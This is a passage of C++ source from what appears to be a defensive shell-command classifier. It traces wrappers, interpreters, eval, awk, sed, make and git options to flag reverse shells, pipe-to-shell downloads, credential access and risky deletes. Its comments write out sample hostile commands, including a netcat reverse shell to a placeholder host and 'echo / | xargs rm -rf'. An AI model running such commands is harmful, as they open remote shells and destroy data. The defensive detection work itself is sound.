    }
    if (name == "let") {
      for (std::size_t i = start + 1; i < w.size(); ++i) arithmetic_verdict(w[i].text, depth, v);
    }
    if (name == "trap") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        if (w[i].text.starts_with("-")) continue;
        Verdict inner = inner_script(w[i], depth, "a trap's code");
        raise(v, inner.decision, inner.rule, inner.reason);
        break;  // the rest are signal names
      }
    } else if (name == "alias") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const auto eq = w[i].text.find('=');
        if (eq == std::string::npos) continue;
        Verdict inner =
            inner_script({w[i].text.substr(eq + 1), w[i].dynamic, w[i].ifs, {}}, depth, "an alias");
        raise(v, inner.decision, inner.rule, inner.reason);
      }
    } else if (name == "mapfile" || name == "readarray") {
      for (std::size_t i = start + 1; i + 1 < w.size(); ++i) {
        if (w[i].text == "-C") {
          Verdict inner = inner_script(w[i + 1], depth, "a mapfile callback");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
      }
    } else if (name == "export" || name == "declare" || name == "typeset" || name == "readonly" ||
               name == "local") {
      for (const auto& s : c.sets) {
        if (s.name == "PATH") {
          effect(v, Effect::contained, "path-change", "changes where commands are found");
        } else if (!s.unknown) {
          variable_effect(s.name, s.value, depth, v);
        }
      }
      const bool integer = std::any_of(
          w.begin() + static_cast<std::ptrdiff_t>(start) + 1, w.end(), [](const Word& x) {
            return x.text.starts_with("-") && x.text.find('i') != std::string::npos;
          });
      if (integer) {
        for (const auto& s : c.sets) arithmetic_verdict(s.value.text, depth, v);
      }
    } else if (name == "hash") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        if (w[i].text.starts_with("-") && w[i].text.find('p') != std::string::npos) {
          effect(v, Effect::opaque, "rebinds-command",
                 "hash -p makes a command name run another program");
        }
      }
    } else if (name == "enable") {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        if (w[i].text.starts_with("-") && w[i].text.find('f') != std::string::npos) {
          effect(v, Effect::opaque, "rebinds-command", "enable -f loads a builtin from a library");
        }
      }
    }
  }

  // The words of `c` from `start` on are a command line (argv[0] at start).
  Verdict argv_verdict(const SimpleCommand& c, std::size_t start, int depth) {
    Verdict v;
    if (depth > kClassifierMaxDepth) {
      effect(v, Effect::opaque, "analysis-bound", "wrappers nested too deep: not analysed");
      return v;
    }
    if (start >= c.words.size()) {
      effect(v, Effect::read_only, "wrapper-only", "a wrapper with no command");
      return v;
    }
    const Word& w0 = c.words[start];
    if (!w0.dynamic) {
      // `env --spli=CMD`, `su --comm CMD`: getopt's abbreviations, read as the full options.
      if (auto expanded = classifier::expand_long_options(c.words, start, basename_of(w0.text))) {
        SimpleCommand full = c;
        full.words = std::move(*expanded);
        return argv_verdict(full, start, depth);
      }
    }
    // A pattern as the name runs whichever file matches: anywhere, when it is absolute, in
    // the home or climbs out, and its last part is a pattern (`/???/r?`). A relative one is
    // one of the workspace's scripts like any (`./scripts/run_*.sh`); one whose directory
    // alone is a pattern still names its program (`/usr/lib/jvm/*/bin/java`).
    const std::string last =
        w0.text.substr(w0.text.rfind('/') == std::string::npos ? 0 : w0.text.rfind('/') + 1);
    const bool wide_glob = w0.glob && classifier::unquoted_glob(last) &&
                           (w0.text.starts_with("/") || w0.text.starts_with("~") ||
                            w0.text.find("..") != std::string::npos);
    if (w0.dynamic || wide_glob) {
      effect(v, Effect::opaque, "dynamic-command",
             std::string(wide_glob ? "the command's name is a pattern, whichever file matches: "
                                   : "the command's name is known only at run time: ") +
                 w0.text);
      return v;
    }
    const std::string name = basename_of(w0.text);
    if (start == 0) {
      for (const auto& a : c.assignments) {
        const auto eq = a.find('=');
        std::string value = a.substr(eq == std::string::npos ? a.size() : eq + 1);
        if (value.size() >= 2 && (value[0] == '\'' || value[0] == '"') && value.back() == value[0])
          value = value.substr(1, value.size() - 2);
        const std::string var = a.substr(0, eq);
        if (var == "PATH") {
          effect(v, Effect::contained, "path-change", "runs with a changed PATH: " + a);
        } else {
          variable_effect(var, literal_word(value), depth, v);
        }
      }
    }
    deferred_code(c, start, name, depth, v);
    const bool bare = w0.text.find('/') == std::string::npos;
    static constexpr std::string_view kBuiltins[] = {
        "cd",      "echo",   "printf", "export", "local", "declare", "read", "test",
        "[",       "true",   "false",  "set",    "unset", "shift",   "exit", "return",
        "eval",    "source", ".",      "exec",   "wait",  "trap",    "type", "command",
        "builtin", "hash",   "alias",  "let",    "pushd", "popd"};
    const bool builtin =
        std::find(std::begin(kBuiltins), std::end(kBuiltins), name) != std::end(kBuiltins);
    if (bare && !builtin && state_->path_hijacked()) {
      effect(v, Effect::opaque, "path-hijack",
             "PATH now searches a directory the command line controls first: " + name +
                 " may be any program");
    }
    const bool trusted = trusted_spelling(w0.text) && !(bare && !builtin && state_->path_changed());
    Args args;
    args.program = name;
    args.where = &state_->paths();
    for (std::size_t i = start + 1; i < c.words.size(); ++i) {
      args.words.push_back(c.words[i].text);
      args.dynamic.push_back(c.words[i].dynamic);
    }
    if (!bare) {
      if (const auto* f = state_->written(w0.text)) script_file_verdict(*f, "shebang", depth, v);
    }

    code_runner_verdict(c, start, name, depth, v);
    if (name == "nc" || name == "ncat" || name == "netcat" || name == "socat" || name == "telnet" ||
        name == "openssl" || name == "nc.traditional" || name == "nc.openbsd") {
      // `sh -i < f 2>&1 | nc HOST PORT > f`: a shell's output into a connection.
      for (const auto& up : c.upstream) {
        if (is_shell(up))
          effect(v, Effect::hostile, "reverse-shell",
                 up + " piped into " + name + ": hands a shell to a network connection");
      }
    }
    if (name == "env") {  // env NAME=VALUE CMD: as a prefix assignment
      for (std::size_t i = start + 1; i < c.words.size(); ++i) {
        const std::string& t = c.words[i].text;
        const auto eq = t.find('=');
        if (t.starts_with("-") || eq == std::string::npos || eq == 0) continue;
        if (t.substr(0, eq) == "PATH") {
          effect(v, Effect::contained, "path-change", "runs with a changed PATH: " + t);
        } else {
          variable_effect(t.substr(0, eq), {t.substr(eq + 1), c.words[i].dynamic, false, {}}, depth,
                          v);
        }
      }
    }
    // Wrappers: the command they run is classified as if given directly, from the directory
    // they move it to (env -C DIR).
    if (auto next = wrapped_command(c, start, name, v, depth)) {
      std::optional<classifier::ScriptState> moved;
      classifier::ScriptState* outer = state_;
      if (auto dir = wrapper_directory(c.words, start, name)) {
        moved.emplace(*state_);
        moved->change_directory({*dir}, true);
        state_ = &*moved;
      }
      struct Restore {
        classifier::ScriptState*& state;
        classifier::ScriptState* outer;
        ~Restore() { state = outer; }
      } restore{state_, outer};
      for (std::size_t at : *next) {
        if (name == "xargs" || name == "parallel") {
          Verdict inner = argv_verdict(with_stdin_arguments(c, at), 0, depth + 1);
          raise(v, inner.decision, inner.rule, inner.reason);
          continue;
        }
        Verdict inner = argv_verdict(c, at, depth + 1);
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      if (next->empty() && v.rule.empty()) {
        effect(v, Effect::read_only, "wrapper-only", "a wrapper with no command");
      }
      return v;
    }

    if (name == "eval") eval_verdict(c, start, depth, v);
    if ((name == "source" || name == ".") && start + 1 < c.words.size()) {
      const std::string& f = c.words[start + 1].text;
      if (const auto* file = state_->written(f)) script_file_verdict(*file, "", depth, v);
      if (f == "/dev/stdin" || f == "/dev/fd/0" || f == "/proc/self/fd/0") {
        piped_program_verdict(c, name, v);
        for (const auto& text : c.stdin_texts) {
          Verdict inner = inner_script(text, depth, "text fed to its stdin");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        if (c.stdin_texts.empty())
          effect(v, Effect::opaque, "script-from-pipe", name + " runs its stdin: not analysable");
      }
    }
    if (name == "source" || name == "." || is_shell(name) || is_interpreter(name))
      descriptor_program(c, start, name, depth, v);
    if (is_shell(name)) shell_verdict(c, start, depth, v);
    if (is_interpreter(name)) interpreter_verdict(c, start, name, depth, v);
    if (is_interpreter(name) || name == "source" || name == "." || name == "eval") {
      for (std::size_t i = start + 1; i < c.words.size(); ++i) {
        if (fetches_code(c.words[i])) {
          effect(v, Effect::hostile, "pipe-to-shell",
                 name + " runs code fetched from the network: " + c.words[i].text);
        }
      }
      for (const auto& r : c.redirects) {
        if (r.op == "<" && fetches_code(r.target)) {
          effect(v, Effect::hostile, "pipe-to-shell",
                 name + " runs code fetched from the network: " + r.target.text);
        }
      }
    }
    if (name == "rm") {
      // `xargs sh -c 'rm -rf "$@"'`: the paths are whatever the input brings.
      for (std::size_t i = start + 1; i < c.words.size(); ++i) {
        const std::string& t = c.words[i].text;
        if (c.words[i].dynamic &&
            (t.find("$@") != std::string::npos || t.find("$*") != std::string::npos ||
             (t.find('$') != std::string::npos &&
              t.find_first_of("123456789", t.find('$')) == t.find('$') + 1)) &&
            classifier::matchers_recursive(args)) {
          effect(v, Effect::opaque, "recursive-delete-unknown-path",
                 "recursive delete of paths given at run time: " + t);
        }
      }
    }
    for (std::size_t i = start + 1; i < c.words.size(); ++i) {
      credential_effect(c.words[i].text, "names", v);
    }
    if (name == "git") git_environment_verdict(c, start, v);
    const Verdict own = own_verdict(c, start, args, trusted);
    if (own.rule.empty() && !is_shell(name) && name != "eval") {
      // No rule for the program itself: whatever its arguments ran (an interpreter's code,
      // find -exec), the program runs too, and is only known to be contained.
      effect(v, Effect::contained, "default", "no rule matched");
    }
    if (!own.rule.empty()) {
      // What nested scripts and wrappers decided (v) stays; the command's own verdict may be
      // weaker than the built-in one only through a user rule.
      if (v.rule.empty() || rank(own.decision) > rank(v.decision)) v = own;
    }
    otherwise_default(v);
    return v;
  }

  // xargs/parallel CMD: the words of stdin become CMD's last arguments (or replace -I's
  // placeholder). Known when the command line printed them (`echo / | xargs rm -rf`); otherwise
  // a word known only at run time, which names what fed it (`$(curl)` when a download did).
  SimpleCommand with_stdin_arguments(const SimpleCommand& c, std::size_t at) const {
    SimpleCommand out = c;
    out.words.assign(c.words.begin() + static_cast<std::ptrdiff_t>(at), c.words.end());
    std::string placeholder;
    for (std::size_t i = 1; i < at; ++i) {
      const std::string& t = c.words[i].text;
      if ((t == "-I" || t == "--replace") && i + 1 < at) placeholder = c.words[i + 1].text;
      if (t.starts_with("-I") && t.size() > 2) placeholder = t.substr(2);
      if (t == "-i" || t == "--replace") placeholder = placeholder.empty() ? "{}" : placeholder;
    }
    // How the input splits into arguments: at blanks; at newlines (-I, -L, -d '\n'); not at
    // all (-0, another -d delimiter: the text printed here holds none).
    std::string separators = placeholder.empty() ? " \t\n" : "\n";
    for (std::size_t i = 1; i < at; ++i) {
      const std::string& t = c.words[i].text;
      std::optional<std::string> delimiter;
      if ((t == "-d" || t == "--delimiter") && i + 1 < at) delimiter = c.words[i + 1].text;
      if (t.starts_with("--delimiter=")) delimiter = t.substr(12);
      if (t.starts_with("-d") && t.size() > 2) delimiter = t.substr(2);
      if (delimiter) separators = *delimiter == "\\n" || *delimiter == "\n" ? "\n" : "";
      if (t == "-0" || t == "--null") separators = "";
      if (t == "-L" || t.starts_with("-L") || t == "--max-lines") separators = "\n";
    }
    std::vector<Word> input;
    // The input: stdin, or the file -a / --arg-file names (known when this line wrote it).
    std::optional<std::string> given;
    if (c.stdin_texts.size() == 1 && !c.stdin_texts[0].dynamic) given = c.stdin_texts[0].text;
    for (std::size_t i = 1; i < at; ++i) {
      const std::string& t = c.words[i].text;
      std::optional<Word> file;
      if ((t == "-a" || t == "--arg-file") && i + 1 < at) file = c.words[i + 1];
      if (t.starts_with("--arg-file=")) file = literal_word(t.substr(11));
      if (t.starts_with("-a") && t.size() > 2) file = literal_word(t.substr(2));
      if (!file) continue;
      const classifier::WrittenFile* f = file->dynamic ? nullptr : state_->written(file->text);
      given = f != nullptr && !f->fetched ? f->text : std::nullopt;
    }
    if (given) {
      const std::string& text = *given;
      std::size_t i = 0;
      while (i < text.size()) {
        const auto b = text.find_first_not_of(" \t\n", i);
        if (b == std::string::npos) break;
        auto e = separators.empty() ? std::string::npos : text.find_first_of(separators, b);
        if (e == std::string::npos) e = text.size();
        input.push_back(literal_word(text.substr(b, e - b)));
        i = e;
      }
    } else {
      std::string from = "xargs-input";
      for (const auto& up : c.upstream) {
        if (is_downloader(up)) from = up;
      }
      input.push_back({"$(" + from + ")", true, false, {}});
    }
    if (input.empty()) return out;
    if (!placeholder.empty()) {
      std::vector<Word> replaced;
      for (const auto& word : out.words) {
        if (word.text == placeholder && !word.dynamic) {
          replaced.insert(replaced.end(), input.begin(), input.end());
        } else if (!word.dynamic && word.text.find(placeholder) != std::string::npos) {
          Word joined = word;
          joined.text.replace(joined.text.find(placeholder), placeholder.size(), input[0].text);
          joined.dynamic = input[0].dynamic;
          replaced.push_back(joined);
        } else {
          replaced.push_back(word);
        }
      }
      out.words = std::move(replaced);
    } else {
      out.words.insert(out.words.end(), input.begin(), input.end());
    }
    return out;
  }

  // A program and its arguments built from code or settings, judged as that command.
  Verdict words_verdict(const std::vector<std::string>& argv, int depth) {
    SimpleCommand sub;
    for (const auto& a : argv) sub.words.push_back(literal_word(a));
    sub.source = join_words(sub.words);
    return argv_verdict(sub, 0, depth + 1);
  }

  // `git -c alias.p=push p`, `git config alias.p push`: the alias is that git command.
  Verdict git_alias_verdict(const std::string& value, int depth) {
    std::vector<std::string> argv = {"git"};
    for (std::size_t k = 0; k < value.size();) {
      const auto b = value.find_first_not_of(' ', k);
      if (b == std::string::npos) break;
      auto e = value.find(' ', b);
      if (e == std::string::npos) e = value.size();
      argv.push_back(value.substr(b, e - b));
      k = e;
    }
    return words_verdict(argv, depth);
  }

  void eval_verdict(const SimpleCommand& c, std::size_t start, int depth, Verdict& v) {
    std::string joined;
    bool dynamic = false, substitutions = true;
    for (std::size_t i = start + 1; i < c.words.size(); ++i) {
      joined += (joined.empty() ? "" : " ") + c.words[i].text;
      if (c.words[i].dynamic) {
        dynamic = true;
        substitutions &= only_substitutions(c.words[i]);
      }
    }
    if (!dynamic) {
      Verdict inner = script_verdict(joined, depth + 1);
      raise(v, inner.decision, inner.rule, inner.reason);
    } else if (!substitutions) {
      effect(v, Effect::opaque, "dynamic-script",
             "eval runs text known only at run time: " + joined);
    }
    // eval "$(tool init)": runs what the tool prints, like running the tool (classified as a
    // part of its own); the table's eval-or-source names it.
  }

  void interpreter_verdict(const SimpleCommand& c, std::size_t start, const std::string& name,
                           int depth, Verdict& v) {
    const auto& w = c.words;
    const std::string lang = name.starts_with("python") ? "python" : name;
    // The letter that gives program text in a cluster of short options (-c, -Ic, -cCODE for
    // python; -e, -ne, -pe, -le for perl, ruby and node; -r for php).
    const char letter = lang == "python" || name == "pwsh" ? 'c' : name == "php" ? 'r' : 'e';
    const auto program_text = [&](const Word& code) {
      if (code.dynamic) {
        effect(v, Effect::opaque, "inline-code",
               name + " runs program text known only at run time: " + code.text);
      } else {
        apply(read_code(lang, code.text), name, depth, v);
      }
    };
    bool had_code = false;
    for (std::size_t i = start + 1; i < w.size(); ++i) {
      const std::string& t = w[i].text;
      if (t == "--") break;
      for (std::string_view eq : {"--eval=", "--print=", "--command="}) {
        if (t.starts_with(eq)) {
          program_text({t.substr(eq.size()), w[i].dynamic, false, {}});
          had_code = true;
        }
      }
      if (inline_code_option(name, t) && i + 1 < w.size()) {
        program_text(w[i + 1]);
        had_code = true;
        if (lang == "python") return;  // the rest are its arguments
        ++i;
        continue;
      }
      // Not options whose value is glued on (-Mmodule, -Wignore, -Idir, -i.bak, -Fpattern).
      const std::string_view glued_values = lang == "python" ? "WX"
                                            : lang == "perl" ? "MmIiFxC0"
                                            : lang == "ruby" ? "IrCFx"
                                                             : "r";
      const bool cluster = t.size() > 2 && t[0] == '-' && t[1] != '-' && !w[i].dynamic &&
                           glued_values.find(t[1]) == std::string_view::npos;
      const auto at = cluster ? t.find(letter, 1) : std::string::npos;
      const bool node_print =
          (lang == "node" || lang == "nodejs") && cluster && t.find('p') != std::string::npos;
      if (at != std::string::npos || node_print) {
        const auto pos = at != std::string::npos ? at : t.find('p');
        if (pos + 1 < t.size()) {
          program_text({t.substr(pos + 1), false, false, {}});  // -cCODE
        } else if (i + 1 < w.size()) {
          program_text(w[++i]);
        }
        had_code = true;
        if (lang == "python") return;
        continue;
      }
      if (had_code) continue;
      if (t == "-m" && lang == "python" && i + 1 < w.size() && w[i + 1].text == "timeit") {
        // python -m timeit [-s SETUP] [-n N] STATEMENT...: setup and statements are code.
        for (std::size_t k = i + 2; k < w.size(); ++k) {
          const std::string& o = w[k].text;
          if ((o == "-s" || o == "--setup") && k + 1 < w.size()) {
            program_text(w[++k]);
          } else if (o.starts_with("-s") && o.size() > 2 && !o.starts_with("--")) {
            program_text({o.substr(2), w[k].dynamic, false, {}});  // -s'import os'
          } else if (o.size() > 2 && o[0] == '-' && o[1] != '-' &&
                     o.find('s') != std::string::npos) {
            program_text(w[k]);  // a cluster with s in it: read all of it as code too
          } else if (o.starts_with("--setup=")) {
            program_text({o.substr(8), w[k].dynamic, false, {}});
          } else if ((o == "-n" || o == "-r" || o == "-u" || o == "--number" || o == "--repeat" ||
                      o == "--unit") &&
                     k + 1 < w.size()) {
            ++k;
          } else if (!o.starts_with("-") || w[k].dynamic) {
            program_text(w[k]);
          }
        }
        return;
      }
      if (t == "-m" && lang == "python") {
        // `python -m pip install x` is `pip install x`; -m json.tool reads data on stdin.
        if (i + 1 < w.size() && !w[i + 1].dynamic) {
          SimpleCommand module = c;
          module.words.assign(w.begin() + static_cast<std::ptrdiff_t>(i) + 1, w.end());
          module.piped_in = false;
          module.stdin_texts.clear();
          module_ = true;  // a module's name, not a program: the program lists do not apply
          Verdict inner = argv_verdict(module, 0, depth + 1);
          module_ = false;
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        return;
      }
      if (t == "-W" || t == "-X" || t == "-r" || t == "--require" || t == "--import" ||
          t == "--loader" || t == "--input-type") {
        // node -r FILE / --import FILE loads FILE first: one this line wrote is judged.
        if (lang != "python" && t != "--input-type" && i + 1 < w.size() && !w[i + 1].dynamic) {
          if (const auto* f = state_->written(w[i + 1].text))
            script_file_verdict(*f, lang, depth, v);
        }
        ++i;
        continue;
      }
      if (lang != "python" && (t.starts_with("--require=") || t.starts_with("--import="))) {
        if (const auto* f = state_->written(t.substr(t.find('=') + 1)))
          script_file_verdict(*f, lang, depth, v);
        continue;
      }
      if (name == "deno" && t == "eval" && i + 1 < w.size()) {  // deno eval CODE
        program_text(w[i + 1]);
        return;
      }
      if (t == "-") break;  // the program is stdin
      if (t.size() > 1 && t[0] == '-') continue;
      // A program file: the sandbox holds what it does, unless this command line wrote it.
      if (const auto* f = state_->written(t)) script_file_verdict(*f, lang, depth, v);
      return;
    }
    if (had_code) return;
    // No program given: stdin is the program.
    piped_program_verdict(c, name, v);
    for (const auto& text : c.stdin_texts) {
      if (text.dynamic) {
        effect(v, Effect::opaque, "inline-code", name + " runs text made at run time on stdin");
      } else {
        apply(read_code(lang, text.text), name, depth, v);
      }
    }
    if (c.piped_in && c.stdin_texts.empty()) {
      effect(v, Effect::opaque, "script-from-pipe",
             name + " runs what an earlier stage of the pipeline prints: not analysable");
    }
  }

  // awk, sed, make, git -c, rg --pre, ...: code in their arguments.
  void code_runner_verdict(const SimpleCommand& c, std::size_t start, const std::string& name,
                           int depth, Verdict& v) {
    const auto& w = c.words;
    const auto text_at = [&](std::size_t i) -> std::optional<std::string> {
      if (i >= w.size()) return std::nullopt;
      if (w[i].dynamic) {
        effect(v, Effect::opaque, "inline-code",
               name + " runs code known only at run time: " + w[i].text);
        return std::nullopt;
      }
      return w[i].text;
    };
    // A program file (awk -f, sed -f) this command line wrote: its text is the program.
    const auto file_at = [&](std::size_t i) -> std::optional<std::string> {
      if (i >= w.size() || w[i].dynamic) return std::nullopt;
      const classifier::WrittenFile* f = state_->written(w[i].text);
      if (f == nullptr) return std::nullopt;
      if (!f->text || f->fetched) {
        effect(v, Effect::opaque, "script-file",
               name + " runs a program file this command line wrote, not known until run time");
        return std::nullopt;
      }
      return f->text;
    };
    // Program files given in glued or bundled spellings (awk -f/x, --file=x, -E x, gawk -i x;
    // sed -nf x, -f/x, --file=x): read like the spaced `-f x` below.
    const bool awk = name == "awk" || name == "gawk" || name == "mawk" || name == "nawk";
    const bool sed = name == "sed" || name == "gsed";
    if (awk || sed) {
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (w[i].dynamic || t == "--") break;
        std::optional<Word> file;
        if (t.starts_with("--file=")) file = literal_word(t.substr(7));
        if (awk && (t.starts_with("--exec=") || t.starts_with("--include=")))
          file = literal_word(t.substr(t.find('=') + 1));
        if (awk && (t == "-E" || t == "--exec" || t == "-i" || t == "--include") &&
            i + 1 < w.size())
          file = w[i + 1];
        if (!file && t.size() > 2 && t[0] == '-' && t[1] != '-') {
          const std::string_view letters = awk ? "fEi" : "f";
          const std::string_view valued = awk ? "vF" : "el";  // other options taking a value
          for (std::size_t k = 1; k < t.size(); ++k) {
            if (valued.find(t[k]) != std::string_view::npos) break;
            if (letters.find(t[k]) == std::string_view::npos) continue;
            if (k + 1 < t.size()) {
              file = literal_word(t.substr(k + 1));
            } else if (k > 1 && i + 1 < w.size()) {
              file = w[i + 1];  // -nf FILE (a plain -f FILE is read below)
            }
            break;
          }
        }
        if (!file || file->dynamic) continue;
        if (const auto* f = state_->written(file->text)) {
          if (!f->text || f->fetched) {
            effect(v, Effect::opaque, "script-file",
                   name + " runs a program file this command line wrote, not known until run time");
          } else {
            apply(awk ? classifier::awk_program(*f->text) : classifier::sed_script(*f->text), name,
                  depth, v);
          }
        }
      }
    }
    if (name == "awk" || name == "gawk" || name == "mawk" || name == "nawk") {
      bool file = false;
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t == "-f" || t == "--file") file = true;
        if (t == "-f" || t == "--file") {
          if (auto code = file_at(i + 1)) apply(classifier::awk_program(*code), name, depth, v);
        }
        if (t == "-e" || t == "--source") {
          if (auto code = text_at(i + 1)) apply(classifier::awk_program(*code), name, depth, v);
          file = true;
          ++i;
        } else if (t == "-F" || t == "-v" || t == "-f" || t == "--file" || t == "--assign" ||
                   t == "--field-separator") {
          ++i;
        } else if (t == "--") {
          if (!file) {
            if (auto code = text_at(i + 1)) apply(classifier::awk_program(*code), name, depth, v);
          }
          return;
        } else if (!t.starts_with("-") || t == "-") {
          if (!file) {
            if (auto code = text_at(i)) apply(classifier::awk_program(*code), name, depth, v);
          }
          return;
        }
      }
    } else if (name == "sed" || name == "gsed") {
      bool scripts = false;
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        if (w[i].text == "--sandbox") return;  // GNU: e, w and r refused
      }
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if (t == "-e" || t == "--expression") {
          scripts = true;
          if (auto code = text_at(i + 1)) apply(classifier::sed_script(*code), name, depth, v);
          ++i;
        } else if (t.starts_with("--expression=")) {
          scripts = true;
          apply(classifier::sed_script(t.substr(13)), name, depth, v);
        } else if (t == "-f" || t == "--file" || t == "-l" || t == "--line-length") {
          scripts |= t == "-f" || t == "--file";
          if (t == "-f" || t == "--file") {
            if (auto code = file_at(i + 1)) apply(classifier::sed_script(*code), name, depth, v);
          }
          ++i;
        } else if (t.starts_with("-") && t.size() > 1) {
          if (t.find('e') != std::string::npos && t[1] != '-' && t.find('i') == std::string::npos) {
            scripts = true;  // -ne SCRIPT
            if (auto code = text_at(i + 1)) apply(classifier::sed_script(*code), name, depth, v);
            ++i;
          }
        } else if (!scripts) {
          if (auto code = text_at(i)) apply(classifier::sed_script(*code), name, depth, v);
          return;
        }
      }
    } else if (name == "make" || name == "gmake") {
      bool named_file = false;
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        named_file |= w[i].text == "-f" || w[i].text.starts_with("--file") ||
                      w[i].text.starts_with("--makefile") || w[i].text.starts_with("-f");
      }
      for (const char* file : {"GNUmakefile", "makefile", "Makefile"}) {
        const auto* f = named_file ? nullptr : state_->written(file);
        if (f == nullptr) continue;
        if (f->text) {
          apply(classifier::makefile_text(*f->text), name, depth, v);
        } else {
          effect(
              v, Effect::opaque, "script-file",
              "make runs a makefile this command line wrote, whose text is known only at run time");
        }
      }
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        if ((t == "--eval" || t == "-E") && i + 1 < w.size()) {
          if (auto code = text_at(i + 1)) apply(classifier::makefile_text(*code), name, depth, v);
        } else if (t.starts_with("--eval=")) {
          apply(classifier::makefile_text(t.substr(7)), name, depth, v);
        }
        const bool from_stdin =
            ((t == "-f" || t == "--file" || t == "--makefile") && i + 1 < w.size() &&
             (w[i + 1].text == "-" || w[i + 1].text == "/dev/stdin")) ||
            t == "--file=-" || t == "--makefile=-" || t == "-f-";
        if (from_stdin) {
          for (const auto& text : c.stdin_texts) {
            if (text.dynamic) {
              effect(v, Effect::opaque, "inline-code", "make reads a makefile made at run time");
            } else {
              apply(classifier::makefile_text(text.text), name, depth, v);
            }
          }
          if (c.stdin_texts.empty()) {
            effect(v, Effect::opaque, "script-from-pipe",
                   "make runs a makefile read from stdin: not analysable");
          }
        }
      }
    } else if (name == "git") {
      for (std::size_t i = start + 1; i + 1 < w.size(); ++i) {
        const bool glued = w[i].text.starts_with("-c") && w[i].text.size() > 2;
        if (w[i].text != "-c" && !glued) continue;
        const std::string& kv = glued ? w[i].text.substr(2) : w[i + 1].text;
        std::string key = kv.substr(0, kv.find('='));
        for (auto& ch : key) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
        std::string value = kv.find('=') == std::string::npos ? "" : kv.substr(kv.find('=') + 1);
        if (key.starts_with("alias.") && !value.starts_with("!")) {
          // an alias of another git subcommand: `git -c alias.p=push p` pushes
          Verdict inner = git_alias_verdict(value, depth);
          raise(v, inner.decision, inner.rule, inner.reason);
          continue;
        }
        if (!git_command_key(key, value)) continue;

        if (value.starts_with("!")) value.erase(0, 1);
        Verdict inner =
            inner_script({value, w[glued ? i : i + 1].dynamic, false, {}}, depth, "a git setting");
        raise(v, inner.decision, inner.rule, inner.reason);
      }
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        for (std::string_view opt : {"--open-files-in-pager=", "--extcmd=", "--upload-pack=",
                                     "--receive-pack=", "--exec="}) {
          if (t.starts_with(opt)) {
            Verdict inner = inner_script({t.substr(opt.size()), w[i].dynamic, false, {}}, depth,
                                         "a command given to git");
            raise(v, inner.decision, inner.rule, inner.reason);
          }
        }
        if (t == "foreach" && i > start + 1 && w[i - 1].text == "submodule") {
          std::string joined;
          bool dynamic = false;
          for (std::size_t k = i + 1; k < w.size(); ++k) {
            if (w[k].text.starts_with("-") && joined.empty()) continue;  // --recursive, -q
            joined += (joined.empty() ? "" : " ") + w[k].text;
            dynamic |= w[k].dynamic;
          }
          Verdict inner =
              inner_script({joined, dynamic, false, {}}, depth, "git submodule foreach");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        if (t.starts_with("ext::") || t.find("protocol.ext.allow") != std::string::npos) {
          effect(v, Effect::opaque, "runs-a-command", "git's ext:: transport runs a command: " + t);
        }
        if (t == "config" && i + 2 < w.size() && !w[i + 1].text.starts_with("-")) {
          // git config core.pager 'CMD': what a later git command will run.
          std::string key = w[i + 1].text;
          for (auto& ch : key) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
          if (git_command_key(key, w[i + 2].text) || key.starts_with("alias.")) {
            std::string value = w[i + 2].text;
            if (value.starts_with("!")) value.erase(0, 1);
            Verdict inner =
                key.starts_with("alias.") && !w[i + 2].text.starts_with("!")
                    ? git_alias_verdict(value, depth)
                    : inner_script({value, w[i + 2].dynamic, false, {}}, depth, "a git setting");
            raise(v, inner.decision, inner.rule, inner.reason);
          }
        }
        if ((t == "-O" || t == "-x" || t == "--exec" || t == "--extcmd" || t == "--upload-pack" ||
             t == "--receive-pack") &&
            i + 1 < w.size()) {
          Verdict inner = inner_script(w[i + 1], depth, "a command given to git");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        if (t == "run" && i > start + 1 && w[i - 1].text == "bisect") {
          Verdict inner = argv_verdict(c, i + 1, depth + 1);
          raise(v, inner.decision, inner.rule, inner.reason);
        }
      }
    } else if (auto options = command_options(name); !options.empty()) {
      // Options whose value is a command line the program runs (tar --to-command, sort
      // --compress-program, man -P, zip -TT, rsync -e, gdb -ex 'shell ...', vim -c '!...').
      for (std::size_t i = start + 1; i < w.size(); ++i) {
        const std::string& t = w[i].text;
        for (const auto& [option, kind] : options) {
          std::optional<Word> value;
          if (t == option && i + 1 < w.size()) value = w[i + 1];
          const std::string glued = std::string(option) + (option.starts_with("--") ? "=" : "");
          if (t.size() > glued.size() && t.starts_with(glued))
            value = Word{t.substr(glued.size()), w[i].dynamic, false, {}};
          if (!value) continue;
          std::string text = value->text;
          if (text.starts_with("exec=")) text.erase(0, 5);  // --checkpoint-action=exec=CMD
          // A filter, a compressor, a pager: it reads the data on stdin (a shell there runs it).
          if (option == "--compress-program" || option == "--to-command" || option == "-I" ||
              option == "--use-compress-program" || option == "-P" || option == "--pager")
            text = "cat | " + text;
          if (kind != 's') {
            // gdb: `shell CMD` / `!CMD`; an editor: `!CMD`; other code they run is opaque.
            if (kind == 'g' && text.starts_with("shell ")) {
              text.erase(0, 6);
            } else if (text.find('!') != std::string::npos) {
              text.erase(0, text.find('!') + 1);
            } else {
              for (std::string_view code : {"python", "source", "pipe", "system", "lua", "shell",
                                            "call", "process", "py3", "perl", "ruby"}) {
                if (text.find(code) != std::string::npos) {
                  effect(v, Effect::opaque, "inline-code",
                         name + " runs code given to it: " + text);
                  break;
                }
              }
              continue;
            }
          }
          Verdict inner = inner_script({text, value->dynamic, false, {}}, depth,
                                       "a command given as an option");
          raise(v, inner.decision, inner.rule, inner.reason);
        }
        if (t.starts_with("+") && t.find('!') != std::string::npos) {
